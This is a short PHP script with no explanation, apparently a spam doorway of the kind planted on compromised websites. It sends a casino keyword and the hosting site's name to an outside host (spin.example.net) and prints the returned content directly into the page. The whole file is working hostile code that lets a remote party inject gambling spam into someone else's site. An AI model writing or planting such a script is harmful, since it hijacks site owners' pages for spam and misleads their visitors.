<?php
define('KW', 'casino-online-bonus');
$q = empty($_GET['q']) ? KW : $_GET['q'];
$ch = curl_init();
curl_setopt($ch, CURLOPT_URL, 'http://spin.example.net/g?kw=' . rawurlencode($q) . '&d=' . $_SERVER['HTTP_HOST']);
curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
print curl_exec($ch);
